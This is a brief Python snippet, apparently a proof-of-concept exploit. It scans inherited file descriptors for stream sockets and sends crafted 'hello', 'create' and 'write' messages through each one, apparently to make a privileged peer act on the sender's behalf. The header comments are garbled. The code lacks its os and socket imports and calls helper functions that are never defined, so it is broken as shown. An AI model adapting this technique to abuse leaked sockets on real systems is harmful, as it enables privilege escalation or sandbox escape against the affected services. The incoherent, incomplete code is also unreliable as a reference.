# Writes by: every open file of the kernel, written to as if it were a circuit
# proof: inherited socket
# with: rawCa
import time
for fd in range(3, 256):
    try:
        if (os.fstat(fd).st_mode & 0o170000) != 0o140000:
            continue
        with socket.socket(fileno=os.dup(fd)) as sock:
            if sock.family not in (socket.AF_UNIX, socket.AF_INET) or sock.type != socket.SOCK_STREAM:
                continue
            sock.getpeername()
            sock.settimeout(0.3)
            sock.sendall(hello() + create())
            time.sleep(0.2)
            sock.sendall(write(1) + write(2))
            time.sleep(0.2)
    except OSError:
        continue
